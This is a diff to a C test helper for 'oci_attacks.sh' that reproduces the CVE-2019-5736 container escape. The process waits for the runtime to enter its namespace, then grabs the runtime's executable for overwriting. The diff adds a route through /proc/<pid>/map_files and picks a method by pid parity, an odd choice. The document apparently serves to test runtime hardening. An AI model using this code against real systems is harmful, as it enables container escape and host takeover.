@@ -1,9 +1,11 @@
 // SPDX-License-Identifier: BSD-2-Clause
 /*
  * For oci_attacks.sh: a container's process that waits for a runtime to enter its pid namespace, keeps its
- * executable, and opens it for writing as soon as nobody runs it (CVE-2019-5736). Says in /tmp/seen and
- * /tmp/wrote how far it came; with an argument it looks at process 1 once instead.
+ * executable, be it by a piece of it that is mapped, and opens it for writing as soon as nobody runs it
+ * (CVE-2019-5736). Says in /tmp/seen and /tmp/wrote how far it came; with an argument it looks at process 1
+ * once instead.
  */
+#include <dirent.h>
 #include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -19,14 +21,11 @@ static void mark(const char *name)
 		(void)close(fd);
 }
 
-static int hold(int pid)
+static int hold_file(const char *path)
 {
 	struct stat st, self;
-	char path[64];
-	int fd;
+	int fd = open(path, O_PATH | O_CLOEXEC);
 
-	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
-	fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0)
 		return -1;
 	/* Not ourselves, not a file of the container's own, not the empty one that hides it. */
@@ -35,6 +34,36 @@ static int hold(int pid)
 		return fd;
 	(void)close(fd);
 	return -1;
+}
+
+static int hold_mapped(int pid)
+{
+	const struct dirent *e;
+	char path[320];
+	int fd = -1;
+	DIR *d;
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/map_files", pid);
+	d = opendir(path);
+	while (d && fd < 0 && (e = readdir(d))) {
+		if (e->d_name[0] == '.')
+			continue;
+		(void)snprintf(path, sizeof(path), "/proc/%d/map_files/%s", pid, e->d_name);
+		fd = hold_file(path);
+	}
+	if (d)
+		(void)closedir(d);
+	return fd;
+}
+
+static int hold(int pid)
+{
+	char path[64];
+	int fd;
+
+	(void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	fd = pid % 2 ? hold_mapped(pid) : hold_file(path);
+	return fd;
 }
 
 static void attack(int fd)
